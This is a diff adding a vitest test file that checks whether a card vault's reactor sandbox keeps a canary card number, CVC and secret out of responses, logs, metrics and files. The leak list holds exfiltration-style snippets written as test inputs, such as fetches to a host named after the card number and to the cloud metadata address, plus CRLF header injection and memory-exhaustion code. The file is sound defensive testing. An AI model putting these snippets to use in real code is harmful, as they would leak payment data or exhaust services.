@@ -1,0 +1,146 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { certificateAuthority } from '../packages/vault/src/egress/testing/certificates.ts';
+import { startDestination } from '../packages/vault/src/egress/testing/destinations.ts';
+import { filesIn, search, searchCodes } from './canary/search.ts';
+import { cardNumbers, cvcOf, marker } from './canary/secrets.ts';
+import { dataFolder, initVault, makeApplication, serveVault, type VaultProcess } from './vault-process.ts';
+
+const [number = ''] = cardNumbers;
+const secret = 'sk_canary_quince_orchard';
+
+/** Code that leaks what it is given in every way there is, but for giving it back; `at` is where an acquirer listens. */
+const leaks = (at: string): [name: string, status: number, body: string][] => [
+  [
+    'writes it to the console',
+    200,
+    "console.log(n, [...n].join(' '), btoa(n), [...n].reverse().join(''), d.cvc, k, { d }, [...n].map((c) => 'zero one two three'.split(' ')[c] ?? c))",
+  ],
+  ['throws it', 500, 'throw new Error(n + k)'],
+  ['throws it as it is', 500, 'throw n'],
+  ['throws it as a name', 500, "throw Object.assign(new Error('x'), { name: n, status: 500 })"],
+  ['throws it in a typed error', 400, "throw new BadRequestError(['card', n, 'code', d.cvc, 'of', k].join(' '))"],
+  ['throws it as a property of a typed error', 400, 'throw new BadRequestError({ [n]: [n, k] })'],
+  [
+    'throws it with separators',
+    402,
+    "throw new InvalidPaymentMethodError(n.replace(/(.{4})(?=.)/g, '$1 ') + ' / ' + n.match(/.{1,4}/g).join('-'))",
+  ],
+  [
+    'throws what the acquirer echoes',
+    402,
+    `const r = await fetch('${at}/402', { method: 'POST', body: n }); throw Object.assign(new Error(await r.text()), { status: r.status })`,
+  ],
+  ['asks a host that is named after it', 500, "await fetch('https://' + n + '.invalid/' + n + '?k=' + k)"],
+  ['asks an address with it', 500, "await fetch('https://169.254.169.254/' + n)"],
+  ['asks something that is no URL', 500, 'await fetch(n)'],
+  ['sends a header that is none', 500, `await fetch('${at}/200', { headers: { [n]: n + '\\r\\n' + k } })`],
+  ['gives back what is no JSON', 500, 'return { n, big: 10n }'],
+  ['gives back too much', 500, 'return n.repeat(100_000)'],
+  ['makes a token that cannot be', 400, 'return { tokenize: { type: n, data: n } }'],
+  ['makes a card that cannot be', 400, "return { tokenize: { type: 'card', data: { number: n + '1', cvc: n } } }"],
+  ['never ends', 500, 'globalThis.n = n; await new Promise(() => {})'],
+  ['is out of memory', 500, 'const a = []; for (;;) a.push(n.repeat(1e5) + a.length)'],
+];
+
+interface World {
+  folder: ReturnType<typeof dataFolder>;
+  vault: VaultProcess;
+  metrics: string;
+  key: string;
+  management: string;
+  at: string;
+  close(): Promise<void>;
+}
+
+const openWorld = async (): Promise<World> => {
+  const authority = certificateAuthority();
+  const acquirer = await startDestination(
+    async (request, response) => {
+      const chunks: Buffer[] = [];
+      for await (const chunk of request) chunks.push(chunk as Buffer);
+      response.writeHead(Number(request.url?.slice(1)) || 200).end(Buffer.concat(chunks));
+    },
+    authority.issue(['localhost']),
+  );
+  const folder = dataFolder();
+  const ca = join(folder.path, '..', `canary-${process.pid}.pem`);
+  writeFileSync(ca, authority.cert);
+  const { key: management } = await initVault(folder.path);
+  const flags = ['--allowed-destinations', `localhost:${acquirer.port}`, '--egress-ca', ca, '--reactor-processes', '2'];
+  const vault = await serveVault(folder.path, [], ['--metrics-port', '0', ...flags]);
+  const [, metrics = ''] = /"metrics_url":"([^"]+)"/.exec(vault.output().toString()) ?? [];
+  const permissions = ['token:pci:create', 'token:pci:use:reactor'];
+  return {
+    folder,
+    vault,
+    metrics,
+    management,
+    key: await makeApplication(vault, management, 'server_to_server', permissions),
+    at: `https://localhost:${acquirer.port}`,
+    close: async () => {
+      await acquirer.close();
+      folder.remove();
+    },
+  };
+};
+
+const call = async ({ vault }: World, key: string, path: string, body: unknown) => {
+  const headers = { 'bt-api-key': key, 'content-type': 'application/json' };
+  const response = await fetch(vault.origin + path, { method: 'POST', headers, body: JSON.stringify(body) });
+  return { status: response.status, text: await response.text() };
+};
+
+/** Runs a body of code with the card, and gives what its caller gets. */
+const react = async (world: World, body: string) => {
+  const code = `const { BadRequestError, InvalidPaymentMethodError } = require('@basis-theory/basis-theory-reactor-formulas-sdk-js');
+    module.exports = async ({ sourceToken: { data: d }, configuration: { K: k } }) => { const n = d.number; ${body} };`;
+  const settings = [{ name: 'K', type: 'string' }];
+  const formula = { name: 'F', type: 'private', source_token_type: 'card', code, configuration: settings };
+  const made = await call(world, world.management, '/reactor-formulas', formula);
+  expect(made.status, made.text).toBe(201);
+  const reactor = { name: 'R', formula: { id: JSON.parse(made.text).id }, configuration: { K: secret } };
+  const reactor_id = JSON.parse((await call(world, world.management, '/reactors', reactor)).text).id;
+  const card = { number, expiration_month: 12, expiration_year: 2030, cvc: cvcOf(number) };
+  const { text } = await call(world, world.key, '/atomic/cards', { card });
+  return await call(world, world.key, `/atomic/cards/${JSON.parse(text).id}/react`, { reactor_id });
+};
+
+const found = (place: string, text: string | Buffer) => {
+  const bytes = Buffer.from(text);
+  return [...search(place, bytes, [number, secret, marker]), ...searchCodes(place, bytes, [cvcOf(number)])];
+};
+
+describe('reactors whose code leaks in every way', () => {
+  let world: World;
+  beforeAll(async () => {
+    world = await openWorld();
+  }, 60_000);
+  afterAll(async () => {
+    await world.vault.kill();
+    await world.close();
+  });
+
+  test('tell their caller nothing of what they were given, unless the code gives it back', async () => {
+    for (const [name, status, body] of leaks(world.at)) {
+      const answer = await react(world, body);
+      expect({ name, status: answer.status, text: answer.text }).toMatchObject({ name, status });
+      expect(found(name, answer.text), name).toEqual([]);
+    }
+    const shown = await react(world, 'return { n, k, code: d.cvc }');
+    expect(new Set(found('raw', shown.text).map(({ secret: which }) => which)).size).toBeGreaterThan(1);
+  }, 120_000);
+
+  test('leave nothing of it in logs, audit, metrics and files', async () => {
+    expect(world.vault.output().toString()).toContain('reactor console');
+    const headers = { 'bt-api-key': await makeApplication(world.vault, world.management, 'management', ['log:read']) };
+    const logs = await (await fetch(`${world.vault.origin}/logs?size=100`, { headers })).text();
+    expect(logs).toContain('Card used');
+    expect(found('audit', logs)).toEqual([]);
+    expect(found('metrics', await (await fetch(world.metrics)).text())).toEqual([]);
+    expect(await world.vault.stop()).toBe(0);
+    const places = [...filesIn(world.folder.path), { path: 'output', bytes: world.vault.output() }];
+    expect(places.flatMap(({ path, bytes }) => found(path, bytes))).toEqual([]);
+  }, 60_000);
+});
